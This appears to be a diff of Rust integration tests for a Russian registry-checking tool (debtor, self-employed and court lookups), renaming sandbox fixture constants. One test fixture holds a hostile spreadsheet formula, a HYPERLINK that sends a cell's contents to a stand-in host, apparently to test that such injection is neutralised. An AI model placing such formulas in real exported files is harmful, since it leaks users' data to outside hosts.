@@ -15,7 +15,7 @@ async fn a_russian_excel_csv_with_one_fio_column_and_hostile_cells() {
     let s = sandbox().await;
     let d = dir("cp1251");
     let input = d.join("подрядчики.csv");
-    let (debtor_last, debtor_first, debtor_birth) = proverka_sandbox::FSSP_DEBTOR;
+    let (debtor_last, debtor_first, debtor_birth) = proverka_fssp::sandbox::DEBTOR;
     let text = format!(
         "ФИО;Дата рождения;Комментарий\r\n\
          {debtor_last} {debtor_first} Петрович;{debtor_birth};\"=HYPERLINK(\"\"http://x/?leak=\"\"&A2;\"\"Click\"\")\"\r\n\
@@ -169,7 +169,7 @@ async fn one_off_checks_take_dates_either_way_as_batches_do() {
     npd.args([
         "npd",
         "--inn",
-        proverka_sandbox::NPD_PAYER,
+        proverka_npd::sandbox::PAYER,
         "--date",
         "01.03.2024",
     ]);
@@ -191,7 +191,7 @@ async fn one_off_checks_take_dates_either_way_as_batches_do() {
     };
     assert_eq!(field("self_employed"), "true", "{shown}");
     assert_eq!(field("checked_on"), "2024-03-01", "{shown}");
-    let (last, first, born) = proverka_sandbox::FSSP_DEBTOR;
+    let (last, first, born) = proverka_fssp::sandbox::DEBTOR;
     // 31.03.1980 written the ISO way.
     let iso = format!("{}-{}-{}", &born[6..], &born[3..5], &born[..2]);
     let mut fssp = ru(&s);
@@ -215,8 +215,8 @@ async fn results_carry_proceedings_courts_addresses_and_the_date_checked() {
     let s = sandbox().await;
     let d = dir("rich");
     // FSSP: the known debtor's proceedings, a sheet of their own linked to the input row.
-    let (last, first, born) = proverka_sandbox::FSSP_DEBTOR;
-    let (clean_last, clean_first, clean_born) = proverka_sandbox::FSSP_CLEAN;
+    let (last, first, born) = proverka_fssp::sandbox::DEBTOR;
+    let (clean_last, clean_first, clean_born) = proverka_fssp::sandbox::CLEAN;
     let people = d.join("people.csv");
     std::fs::write(
         &people,
@@ -278,7 +278,7 @@ async fn results_carry_proceedings_courts_addresses_and_the_date_checked() {
     let addresses = d.join("addresses.csv");
     std::fs::write(
         &addresses,
-        format!("Адрес\n\"{}\"\n", proverka_sandbox::COURT_ADDRESS_FOUND),
+        format!("Адрес\n\"{}\"\n", proverka_court::sandbox::ADDRESS_FOUND),
     )
     .unwrap();
     let courts = d.join("courts.csv");
@@ -302,8 +302,8 @@ async fn results_carry_proceedings_courts_addresses_and_the_date_checked() {
         &inns,
         format!(
             "ИНН;Дата\n{};01.03.2024\n{};\n",
-            proverka_sandbox::NPD_PAYER,
-            proverka_sandbox::NPD_NON_PAYER
+            proverka_npd::sandbox::PAYER,
+            proverka_npd::sandbox::NON_PAYER
         ),
     )
     .unwrap();
@@ -324,12 +324,12 @@ async fn rows_are_explained_in_russian_by_default_and_in_english_on_request() {
     let s = sandbox().await;
     let d = dir("lang");
     let input = d.join("inns.csv");
-    let with_letter_o = proverka_sandbox::NPD_NON_PAYER.replacen('0', "О", 1);
+    let with_letter_o = proverka_npd::sandbox::NON_PAYER.replacen('0', "О", 1);
     std::fs::write(
         &input,
         format!(
             "ИНН\n{}\n{with_letter_o}\n7707083893\n",
-            proverka_sandbox::NPD_PAYER
+            proverka_npd::sandbox::PAYER
         ),
     )
     .unwrap();
@@ -378,7 +378,7 @@ async fn through_a_proxy_a_price_is_the_proxy_s_or_said_to_be_unknown() {
     .await;
     let d = dir("proxy-price");
     let inns = d.join("inns.csv");
-    std::fs::write(&inns, format!("ИНН\n{}\n", proverka_sandbox::NPD_PAYER)).unwrap();
+    std::fs::write(&inns, format!("ИНН\n{}\n", proverka_npd::sandbox::PAYER)).unwrap();
     let out = d.join("npd.csv");
     let mut c = ru(&s);
     c.args(["--proxy", &url]);
@@ -391,7 +391,7 @@ async fn through_a_proxy_a_price_is_the_proxy_s_or_said_to_be_unknown() {
     let addresses = d.join("addresses.csv");
     std::fs::write(
         &addresses,
-        format!("Адрес\n\"{}\"\n", proverka_sandbox::COURT_ADDRESS_FOUND),
+        format!("Адрес\n\"{}\"\n", proverka_court::sandbox::ADDRESS_FOUND),
     )
     .unwrap();
     let out = d.join("courts.csv");
@@ -418,8 +418,8 @@ async fn a_failed_row_says_in_russian_what_happened_and_whether_it_was_paid() {
         &input,
         format!(
             "ИНН;Дата\n{};01.03.2024\n{};01.03.2024\n",
-            proverka_sandbox::NPD_PAYER,
-            proverka_sandbox::NPD_NON_PAYER
+            proverka_npd::sandbox::PAYER,
+            proverka_npd::sandbox::NON_PAYER
         ),
     )
     .unwrap();
